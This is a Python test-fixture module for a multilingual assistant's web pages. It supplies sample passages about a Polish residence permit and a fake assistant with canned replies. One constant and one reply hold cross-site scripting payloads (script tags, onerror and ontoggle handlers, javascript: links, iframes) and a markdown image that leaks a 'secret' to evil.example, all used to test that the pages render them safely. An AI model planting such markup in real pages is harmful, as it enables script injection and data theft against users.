"""A small real assistant for the pages' tests: it answers from five sections, some of them hostile."""

from __future__ import annotations

import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

from assistant.answering.assistant import Entry
from assistant.answering.generative.writing import Leave
from assistant.errors import QuestionError
from assistant.records.conversations import DatabaseConversations
from assistant.records.database import open_database, sqlite_url
from assistant.records.messages import Messages
from assistant.types import (
    LANGUAGES,
    Abstention,
    Answer,
    Block,
    Circumstances,
    Citation,
    Confidence,
    Conversation,
    Document,
    Filters,
    Hit,
    Kind,
    Language,
    Passage,
    Reason,
    Reply,
    Sentence,
    Source,
)
from assistant.web.chat.recording import Recorder

TEXTS: dict[Language, tuple[str, str, str, str]] = {
    "en": (
        "Residence permit",
        "Exchange in Poland",
        "Apply for the permit while your stay is legal.\n\n"
        "1. Fill in the form online.\n2. Book a visit.\n\n"
        "| Document | Original |\n|---|---|\n| Passport | yes |\n| Insurance | copy |\n\n"
        "**The decision takes up to 60 days.** See the office's page for fees.",
        "Apply for the permit while your stay is legal.",
    ),
    "ru": (
        "Вид на жительство",
        "Обмен в Польше",
        "Подайте заявление, пока ваше пребывание законно.\n\n"
        "1. Заполните анкету на сайте.\n2. Запишитесь на приём.\n\n"
        "| Документ | Оригинал |\n|---|---|\n| Паспорт | да |\n| Страховка | копия |\n\n"
        "**Решение принимают в срок до 60 дней.** Размер сбора указан на странице ведомства.",
        "Подайте заявление, пока ваше пребывание законно.",
    ),
    "kk": (
        "Тұруға рұқсат",
        "Польшадағы алмасу",
        "Өтінішті елде заңды жүрген кезіңізде беріңіз.\n\n"
        "1. Сауалнаманы сайтта толтырыңыз.\n2. Қабылдауға жазылыңыз.\n\n"
        "| Құжат | Түпнұсқа |\n|---|---|\n| Паспорт | иә |\n| Сақтандыру | көшірме |\n\n"
        "**Шешім 60 күнге дейін қабылданады.** Алым мөлшері мекеменің бетінде көрсетілген.",
        "Өтінішті елде заңды жүрген кезіңізде беріңіз.",
    ),
}
LAST = {
    "en": "**The decision takes up to 60 days.**",
    "ru": "**Решение принимают в срок до 60 дней.**",
    "kk": "**Шешім 60 күнге дейін қабылданады.**",
}
ROW = {"en": "Passport | yes", "ru": "Паспорт | да", "kk": "Паспорт | иә"}
SAID = {"en": "The guide says", "ru": "В путеводителе сказано", "kk": "Нұсқаулықта былай делінген"}
NO_ANSWER = {
    "en": "I found sections on Poland, but none on Japan.",
    "ru": "Нашлись разделы о Польше, но ни одного о Японии.",
    "kk": "Польша туралы бөлімдер табылды, ал Жапония туралы бөлім жоқ.",
}

FEES: dict[Language, tuple[str, str, str]] = {
    "en": ("Fees of the office", "The office takes a fee with every form.", "What does the permit cost?"),
    "ru": ("Сборы ведомства", "С каждой анкетой ведомство берёт сбор.", "Сколько стоит вид на жительство?"),
    "kk": ("Мекеменің алымдары", "Мекеме әр сауалнамаға алым алады.", "Тұруға рұқсат қанша тұрады?"),
}
"""The section that follows the permit: heading, text, and how students ask for it."""
UNIVERSITY = {"en": "Abai University", "ru": "КазНПУ имени Абая", "kk": "Абай атындағы ҚазҰПУ"}

HOSTILE = (
    "Hostile words stay words. <script>alert('document')</script> "
    "<img src=x onerror=alert(1)> ![leak](https://evil.example/leak.png?q=secret) "
    "[click](javascript:alert(2)) [visit](https://evil.example/phish) <https://evil.example/auto> "
    "https://evil.example/bare www.evil.example <iframe src='https://evil.example/frame'></iframe> "
    "<a href='https://evil.example/a' style='background:url(https://evil.example/css)'>a</a> "
    "$$\\href{javascript:alert(3)}{x}$$\n\n"
    "[1]: https://evil.example/definition\n\n```mermaid\ngraph TD; A-->B\n```\n\n"
    "<details open ontoggle=alert(4)><p>x</p></details>"
)


def passage(language: Language = "en", text: str | None = None, heading: str | None = None) -> Passage:
    """Return the permit section in a language, or a section with another text."""
    own_heading, title, body, _ = TEXTS[language]
    text = body if text is None else text
    return Passage(
        document="host_guides/poland",
        anchor="permit",
        language=language,
        heading=own_heading if heading is None else heading,
        context=(title,),
        start=0,
        text=text,
        sentences=(Sentence(0, len(text), "prose", 0),),
        blocks=(Block(0, len(text), "paragraph"),),
    )


def fees(language: Language = "en") -> Passage:
    """Return the section that follows the permit section in a language."""
    heading, text, asked_as = FEES[language]
    after = replace(passage(language, text, heading), anchor="fees", asked_as=(asked_as,))
    return replace(after, start=len(TEXTS[language][2]) + 2)


def guide(language: Language = "en") -> Document:
    """Return the guide to Poland with its two sections."""
    sections = (passage(language), fees(language))
    return Document(
        id="host_guides/poland",
        language=language,
        kind=Kind.HOST_GUIDE,
        title=TEXTS[language][1],
        source=source(language),
        text="\n\n".join(each.text for each in sections),
        passages=sections,
        path=f"host_guides/poland.{language}.md",
        curated=True,
    )


def university(language: Language = "en") -> Document:
    """Return the rules of one university."""
    issued = replace(source(language), institution=UNIVERSITY[language], country="KZ")
    return replace(guide(language), id="regulations/abai_kaznpu", kind=Kind.REGULATION, source=issued)


def source(language: Language = "en") -> Source:
    """Return a reviewed official source."""
    names = {
        "en": "Office for Foreigners",
        "ru": "Управление по делам иностранцев",
        "kk": "Шетелдіктер істері басқармасы",
    }
    return Source(
        institution=names[language],
        country="PL",
        title={"en": "Temporary stay", "ru": "Временное пребывание", "kk": "Уақытша болу"}[language],
        url="https://www.gov.pl/web/udsc-en/temporary-residence",
        dated="2026-03",
        reviewed_on=date(2026, 9, 30),
        review_by=date(2026, 11, 1),
        confidence=Confidence.OFFICIAL,
    )


def citation(mark: int, quote: str, of: Passage, kind: Kind = Kind.HOST_GUIDE, stale: bool = False) -> Citation:
    """Return a citation of a passage with its reviewed source."""
    return Citation(mark=mark, quote=quote, passage=of, kind=kind, source=source(of.language), stale=stale)


def answer(language: Language = "en", *, original: Language | None = None, stale: bool = False) -> Answer:
    """Return an answer with a sentence, a table row and a sentence of another section."""
    own = passage(original or language)
    first, last, row = TEXTS[own.language][3], LAST[own.language], ROW[own.language]
    text = f"{SAID[language]}: «{first}» [1]\n\n- {last} [2]\n\n|  |  |\n|---|---|\n| {row} [3] |"
    return Answer(
        language=language,
        text=text,
        composer="extractive",
        support=0.9,
        citations=(
            citation(1, first, own, stale=stale),
            citation(2, last, own, stale=stale),
            citation(3, row, own, stale=stale),
        ),
    )


def abstention(language: Language = "en") -> Abstention:
    """Return an honest refusal with a nearest section."""
    nearest = (Hit(passage=passage(language), score=0.4, signals={}),)
    return Abstention(
        language=language,
        text=NO_ANSWER[language],
        reason=Reason.OTHER_COUNTRY,
        support=0.1,
        nearest=nearest,
    )


def hostile() -> Answer:
    """Return an answer that repeats a document full of attacks."""
    section = passage("en", HOSTILE, "Hostile <img src=https://evil.example/h.png onerror=alert(5)>")
    return Answer(
        language="en",
        text=f"«{HOSTILE}» [1]",
        composer="extractive",
        support=0.5,
        citations=(citation(1, "Hostile words stay words.", section, Kind.OTHER),),
    )


def recorder(folder: Path) -> Recorder:
    """Return what records conversations in a database of its own in a folder, made if need be."""
    folder.mkdir(parents=True, exist_ok=True)
    return Recorder(DatabaseConversations(open_database(sqlite_url(folder / "records.sqlite"))), "settings-1", "0.1.0")


def stories(folder: Path) -> Messages:
    """Return what knows what became of the stories in the same database."""
    return Messages(open_database(sqlite_url(folder / "records.sqlite")))


NO_TURNS, NO_FILTERS, NOBODY = Conversation(), Filters(), Circumstances()


class FakeAssistant:
    """Answers by words in the question: Japan abstains, hostile attacks, broken fails, slow waits.

    Every other answer is followed by the section on fees.
    """

    def ask(
        self,
        question: str,
        *,
        conversation: Conversation = NO_TURNS,
        page_language: Language | None = None,
        filters: Filters = NO_FILTERS,
        about: Circumstances = NOBODY,
    ) -> Reply:
        """Return a reply in the language of the page."""
        language = page_language or "en"
        if "Japan" in question or "Япони" in question or "Жапони" in question:
            return abstention(language)
        if "hostile" in question:
            return hostile()
        if "slow" in question:
            time.sleep(2)
        if "broken" in question:
            raise RuntimeError(f"the engine broke at {question!r}")
        if "refuse" in question:
            raise QuestionError(f"{question!r} cannot be taken; ask something else")
        made = answer(language, original="ru" if "original" in question else None, stale="stale" in question)
        return replace(made, follow_ups=(fees(language),))

    def converse(self, question: str, *, leave: Leave | None = None, **known: Any) -> Iterator[Reply]:
        """Yield the reply at once, whole."""
        yield self.ask(question, **known)

    def document(self, id: str, language: Language) -> Document | None:
        """Return the guide or the university's rules."""
        return next((each for each in (guide(language), university(language)) if each.id == id), None)

    def generation(self) -> str:
        """Return a name of an index."""
        return "fake-1"

    def search(
        self,
        question: str,
        *,
        k: int = 10,
        history: tuple[str, ...] = (),
        page_language: Language | None = None,
        filters: Filters | None = None,
    ) -> tuple[Hit, ...]:
        """Return the sections of the guide."""
        return tuple(Hit(passage=each, score=0.5, signals={}) for each in guide(page_language or "en").passages)[:k]

    def outcomes(self) -> None:
        """Return nothing: there is no language model."""

    def catalogue(self) -> tuple[Entry, ...]:
        """Return the guide and the university's rules in every language."""
        return tuple(
            Entry(id=each.id, language=each.language, kind=each.kind, title=each.title, source=each.source)
            for language in LANGUAGES
            for each in (guide(language), university(language))
        )
